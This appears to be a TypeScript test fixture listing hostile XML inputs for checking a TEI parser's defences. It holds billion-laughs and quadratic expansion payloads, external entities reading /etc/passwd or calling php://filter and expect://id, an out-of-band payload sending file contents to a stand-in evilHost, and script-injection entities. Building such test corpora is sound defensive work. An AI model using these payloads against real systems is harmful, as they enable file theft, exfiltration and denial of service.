import {type Attack, evilHost, fileAttack, payload, teiOf} from './attack.js';

const withDtd = (subset: string, body: string, external = ''): string =>
  teiOf(body, {prolog: `<!DOCTYPE TEI ${external}[${subset}]>`});

/** Each entity is ten of the one before. */
const laughs = (levels: number, mark = ''): string => {
  const declared = [`<!ENTITY ${mark}l0 "lol">`];
  for (let level = 1; level <= levels; level++) {
    const reference = `${mark ? '&#37;' : '&'}l${level - 1};`;
    declared.push(`<!ENTITY ${mark}l${level} "${reference.repeat(10)}">`);
  }
  return declared.join('');
};

const outside = [
  'file:///etc/passwd',
  `http://${evilHost}/x.dtd`,
  `//${evilHost}/x`,
  'php://filter/read=convert.base64-encode/resource=index',
  'expect://id',
  'jar:http://a.example!/x',
  '../../../../etc/passwd',
  'data:text/plain,read',
];

/** Entities that grow, that load, or that hide markup (XML 1.0 §4). */
export const entities: readonly Attack[] = [
  fileAttack('a billion laughs', withDtd(laughs(9), '<p>&l9;</p>')),
  fileAttack('a billion laughs in an attribute', withDtd(laughs(9), '<p n="&l9;">a</p>')),
  fileAttack(
    'a billion laughs in the default of an attribute',
    withDtd(`${laughs(9)}<!ATTLIST p n CDATA "&l9;">`, '<p>a</p>'),
  ),
  fileAttack(
    'a billion laughs by parameter entities',
    withDtd(`${laughs(9, '% ')}<!ENTITY e "%l9;">`, '<p>&e;</p>'),
  ),
  fileAttack(
    'a billion laughs of elements',
    withDtd(laughs(9).replace('"lol"', '"<hi>x</hi>"'), '<p>&l9;</p>'),
  ),
  fileAttack(
    'laughs that stay just below a limit, many times',
    withDtd(laughs(4), `<p>${'&l4;'.repeat(40)}</p>`),
  ),
  fileAttack(
    'a quadratic blow-up',
    withDtd(`<!ENTITY a "${'a'.repeat(50_000)}">`, `<p>${'&a;'.repeat(50_000)}</p>`),
  ),
  fileAttack(
    'a quadratic blow-up in attributes',
    withDtd(`<!ENTITY a "${'a'.repeat(50_000)}">`, `<p n="${'&a;'.repeat(20_000)}">a</p>`),
  ),
  fileAttack('an entity that holds itself', withDtd('<!ENTITY a "&a;">', '<p>&a;</p>')),
  fileAttack(
    'two entities that hold each other',
    withDtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', '<p>&a;</p>'),
  ),
  fileAttack(
    'a parameter entity that holds itself',
    withDtd('<!ENTITY % a "&#37;a;">%a;', '<p>a</p>'),
  ),
  fileAttack(
    'a hundred thousand declarations',
    withDtd(
      Array.from({length: 100_000}, (_, at) => `<!ENTITY e${at} "x">`).join(''),
      '<p>&e99999;</p>',
    ),
  ),
  fileAttack(
    'declarations that are never closed',
    `<!DOCTYPE TEI [${'<!ENTITY a "'.repeat(20_000)}`,
  ),
  fileAttack(
    'conditional sections without end',
    `<!DOCTYPE TEI [${'<![INCLUDE['.repeat(20_000)}]><TEI/>`,
  ),
  fileAttack(
    'content models nested without end',
    withDtd(`<!ELEMENT p ${'('.repeat(20_000)}a${')'.repeat(20_000)}>`, '<p>a</p>'),
  ),
  ...outside.map((address) =>
    fileAttack(
      `an external entity at ${address}`,
      withDtd(`<!ENTITY x SYSTEM "${address}">`, '<p n="1">before &x; after</p>'),
    ),
  ),
  ...outside.map((address) =>
    fileAttack(
      `an external parameter entity at ${address}`,
      withDtd(`<!ENTITY % x SYSTEM "${address}"> %x; %y;`, '<p>before &z; after</p>'),
    ),
  ),
  ...outside.map((address) =>
    fileAttack(
      `an external DTD at ${address}`,
      withDtd('', '<p>a &nbsp; b</p>', `SYSTEM "${address}" `),
    ),
  ),
  fileAttack(
    'an external entity in the default of an attribute',
    withDtd(`<!ENTITY x SYSTEM "file:///etc/passwd"><!ATTLIST p n CDATA "&x;">`, '<p>a</p>'),
  ),
  fileAttack(
    'data sent out by a parameter entity',
    withDtd(
      `<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d "<!ENTITY &#37; s SYSTEM 'http://${evilHost}/?%f;'>">%d;%s;`,
      '<p>a</p>',
    ),
  ),
  fileAttack(
    'an unparsed entity and a notation that is a program',
    withDtd(
      `<!NOTATION n SYSTEM "calc.exe"><!ENTITY x SYSTEM "http://${evilHost}/x.gif" NDATA n><!ATTLIST graphic entity ENTITY #IMPLIED>`,
      '<p><graphic entity="x" url="x"/></p>',
    ),
  ),
  fileAttack(
    'markup in the value of an entity',
    withDtd(
      `<!ENTITY x "<ref target='javascript:${payload}' onclick='${payload}'>l</ref>">`,
      '<p>&x;</p>',
    ),
  ),
  fileAttack(
    'script in the value of an entity',
    withDtd(
      `<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>${payload}</script>">`,
      '<p>&x;</p>',
    ),
  ),
  fileAttack('half an element in an entity', withDtd('<!ENTITY x "</p><p>">', '<p>&x;</p>')),
  fileAttack(
    'a scheme put together by entities',
    withDtd(
      '<!ENTITY a "java"><!ENTITY b "script:"><!ENTITY c "&#38;#58;">',
      `<p><ref target="&a;&b;${payload}">l</ref><ref target="javascript&c;${payload}">l</ref><graphic url="&a;&b;${payload}"/></p>`,
    ),
  ),
  fileAttack(
    'an entity named as a key of objects',
    withDtd(
      '<!ENTITY __proto__ "p"><!ENTITY constructor "c"><!ENTITY toString "t">',
      '<p>&__proto__;&constructor;&toString;&hasOwnProperty;&valueOf;</p>',
    ),
  ),
  fileAttack(
    'default attributes that run',
    withDtd(
      `<!ATTLIST p onclick CDATA "${payload}" xml:base CDATA "javascript:${payload}//"><!ATTLIST ref target CDATA "javascript:${payload}"><!ATTLIST TEI xmlns CDATA #FIXED "http://www.w3.org/1999/xhtml">`,
      '<p>a <ref>b</ref></p>',
    ),
  ),
  fileAttack(
    'default attributes that are keys of objects',
    withDtd(
      '<!ATTLIST __proto__ a CDATA "x"><!ATTLIST p __proto__ CDATA "x" constructor CDATA "y"><!ATTLIST constructor prototype CDATA "z">',
      '<p>a<__proto__>b</__proto__></p>',
    ),
  ),
  fileAttack(
    'the standard entities declared as something else',
    withDtd(
      `<!ENTITY lt "&#60;"><!ENTITY amp "&#60;script>${payload}&#60;/script>">`,
      '<p>&lt;&amp;</p>',
    ),
  ),
  fileAttack('references to characters that are none', teiOf('<p>&#0;</p>')),
  fileAttack(
    'references beyond Unicode',
    teiOf('<p>&#x110000;&#xFFFFFFFFFFFF;&#99999999999999999999;</p>'),
  ),
  fileAttack('references to halves of characters', teiOf('<p>&#xD800;&#xDFFF;</p>')),
  fileAttack('a reference of a million digits', teiOf(`<p>&#${'0'.repeat(1_000_000)}65;</p>`)),
  fileAttack('an entity name of a million characters', teiOf(`<p>&${'a'.repeat(1_000_000)};</p>`)),
  fileAttack(
    'twenty thousand unknown entities',
    withDtd(
      '',
      `<p>${Array.from({length: 20_000}, (_, at) => `&u${at};`).join('')}</p>`,
      `SYSTEM "x.dtd" `,
    ),
  ),
];
